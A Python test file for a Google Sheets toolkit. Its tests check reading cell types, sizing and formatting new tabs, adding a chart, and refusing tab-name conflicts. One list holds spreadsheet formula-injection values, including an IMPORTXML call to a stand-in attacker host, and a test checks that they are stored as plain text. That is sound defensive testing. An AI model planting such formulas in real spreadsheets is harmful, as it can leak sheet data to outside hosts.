"""Reading an owner's Google Sheet and writing the toolkit's tabs back, through gspread
over HTTP against the fake."""

from __future__ import annotations

import datetime as dt

import pytest

from tests.fake_sheets import FakeSheets, Formula
from tests.sheets.conftest import OpenWorkbook
from tests.sheets.plans import OWNER_ROWS, best_customers, plan, ranked_rows, summary
from toolkit.errors import TabConflictError
from toolkit.model import Tab, WritePlan

HOSTILE = ['=IMPORTXML("http://evil.example/x","//a")', "+1", "@a", "-2+3", "=1+1",
           "'quoted", "=HYPERLINK(\"http://x\",\"click\")"]


def test_read_keeps_text_text_numbers_exact_and_dates_dates(
    fake_sheets: FakeSheets, open_workbook: OpenWorkbook
) -> None:
    rows = [*OWNER_ROWS, ["Cleo", "", "", "", Formula("=SUM(E2:E3)", 1314.56),
                          dt.datetime(2024, 5, 6, 13, 45)], ["Dan", True, None, 0.1]]
    book = fake_sheets.create_spreadsheet({"Customers": rows, "Notes": []},
                                          date_pattern="d/m/yyyy")
    source = open_workbook(book).read()

    assert [t.tab for t in source.tables] == ["Customers", "Notes"]
    table = source.table("Customers")
    assert table is not None and not table.owned
    assert table.rows[1] == ("Ada Lovelace", "ada@example.com", "00123", "+44 7700 900123",
                             1234.56, dt.date(2021, 3, 14))
    assert table.rows[2][4] == 80 and isinstance(table.rows[2][4], int)
    assert table.rows[3] == ("Cleo", None, None, None, 1314.56, dt.datetime(2024, 5, 6, 13, 45))
    assert table.rows[4] == ("Dan", True, None, 0.1, None, None)  # padded to the widest row
    assert source.table("Notes") is not None and source.table("Notes").rows == ()  # type: ignore[union-attr]
    assert source.label == "Google Sheet 'Customers'"


def test_written_tabs_read_back_the_same(
    fake_sheets: FakeSheets, open_workbook: OpenWorkbook
) -> None:
    book = fake_sheets.create_spreadsheet({"Customers": OWNER_ROWS})
    rows = (("00123", 0.1, 10**15, dt.date(2024, 2, 29), dt.datetime(2024, 2, 29, 8, 5), True),
            ("+44 7700 900123", -3, 2.5e-7, None, None, False))
    tab = Tab("Data problems", ("Text", "Float", "Big", "Date", "When", "Flag"), rows)
    report = open_workbook(book).write(WritePlan((tab,)))

    assert report.tabs_written == ("Data problems",)
    again = open_workbook(book).read().table("Data problems")
    assert again is not None and again.owned
    assert again.rows == (tab.header, *rows)
    assert fake_sheets.values(book, "Data problems")[1][3] == dt.date(2024, 2, 29)


def test_hostile_names_are_written_as_text_never_formulas(
    fake_sheets: FakeSheets, open_workbook: OpenWorkbook
) -> None:
    book = fake_sheets.create_spreadsheet({"Customers": OWNER_ROWS})
    tab = Tab("Follow-ups", ("Customer",), tuple((name,) for name in HOSTILE))
    open_workbook(book).write(WritePlan((tab,)))

    for row, name in enumerate(HOSTILE, start=2):
        cell = fake_sheets.cell(book, "Follow-ups", f"A{row}")
        assert cell is not None and cell.kind == "text" and cell.value == name
    sent = fake_sheets.sheets_calls("values.batchUpdate")[0].body
    assert sent["valueInputOption"] == "RAW"


def test_new_tabs_are_sized_to_their_data_frozen_bold_and_owned(
    fake_sheets: FakeSheets, open_workbook: OpenWorkbook
) -> None:
    book = fake_sheets.create_spreadsheet({"Customers": OWNER_ROWS})
    open_workbook(book).write(plan(count=4))

    best = fake_sheets.sheet(book, "Best customers")
    assert (best.rows, best.columns) == (5, 5)  # not Google's default 1000 x 26
    assert best.frozen_rows == 1
    assert best.formats[(0, 0)]["textFormat"]["bold"] is True
    assert best.formats[(1, 4)]["numberFormat"]["type"] == "DATE"
    assert [m["metadataKey"] for m in best.metadata] == ["customer-toolkit"]
    assert fake_sheets.tab_titles(book) == ["Customers", "Best customers", "Summary"]
    assert best.column_pixels[1] > best.column_pixels[0]


def test_links_are_cell_formats_on_plain_text(
    fake_sheets: FakeSheets, open_workbook: OpenWorkbook
) -> None:
    book = fake_sheets.create_spreadsheet({"Customers": OWNER_ROWS})
    open_workbook(book).write(plan())

    best = fake_sheets.sheet(book, "Best customers")
    assert best.formats[(1, 2)]["textFormat"]["link"] == {"uri": "mailto:c0@example.com"}
    assert best.formats[(3, 2)]["textFormat"]["link"] == {"uri": "mailto:c2@example.com"}
    cell = fake_sheets.cell(book, "Best customers", "C2")
    assert cell is not None and (cell.kind, cell.value) == ("text", "c0@example.com")


def test_summary_gets_one_native_bar_chart_also_after_a_second_run(
    fake_sheets: FakeSheets, open_workbook: OpenWorkbook
) -> None:
    book = fake_sheets.create_spreadsheet({"Customers": OWNER_ROWS})
    open_workbook(book).write(plan())
    open_workbook(book).write(plan())

    charts = fake_sheets.sheet(book, "Summary").charts
    assert len(charts) == 1
    basic = charts[0]["spec"]["basicChart"]
    assert basic["chartType"] == "BAR"
    domain = basic["domains"][0]["domain"]["sourceRange"]["sources"][0]
    assert (domain["startRowIndex"], domain["endRowIndex"], domain["startColumnIndex"]) == (1, 4, 0)


def test_second_run_replaces_toolkit_tabs_in_place_and_leaves_owner_tabs_alone(
    fake_sheets: FakeSheets, open_workbook: OpenWorkbook
) -> None:
    book = fake_sheets.create_spreadsheet({"Customers": OWNER_ROWS})
    open_workbook(book).write(plan(count=6))
    first_id = fake_sheets.sheet(book, "Best customers").sheet_id
    fake_sheets.set_cell(book, "Customers", "B2", "ada@new.example")  # owner edits
    fake_sheets.set_cell(book, "Customers", "G1", "Owner note")
    fake_sheets.set_cell(book, "Best customers", "H9", "scribble")  # in a toolkit tab

    workbook = open_workbook(book)
    workbook.read()
    workbook.write(WritePlan((best_customers(ranked_rows(2)), summary())))

    best = fake_sheets.sheet(book, "Best customers")
    assert best.sheet_id == first_id and (best.rows, best.columns) == (3, 5)
    assert fake_sheets.values(book, "Best customers") == [
        ["Rank", "Name", "Email", "Revenue", "Last purchase"],
        *[list(row) for row in ranked_rows(2)]]
    assert len(best.metadata) == 1
    assert fake_sheets.tab_titles(book) == ["Customers", "Best customers", "Summary"]
    owner = fake_sheets.values(book, "Customers")
    assert owner[1][1] == "ada@new.example" and owner[0][6] == "Owner note"
    assert [row[:6] for row in owner[2:]] == [row for row in OWNER_ROWS[2:]]


def test_owner_tab_with_a_toolkit_name_is_refused_and_nothing_is_written(
    fake_sheets: FakeSheets, open_workbook: OpenWorkbook
) -> None:
    book = fake_sheets.create_spreadsheet({"Customers": OWNER_ROWS,
                                           "summary": [["My own summary"]]})
    with pytest.raises(TabConflictError) as refused:
        open_workbook(book).write(plan())

    assert "'summary'" in str(refused.value) and "rename" in str(refused.value)
    assert fake_sheets.sheets_calls("batchUpdate") == []
    assert fake_sheets.sheets_calls("values.batchUpdate") == []
    assert fake_sheets.tab_titles(book) == ["Customers", "summary"]
    assert fake_sheets.values(book, "summary") == [["My own summary"]]
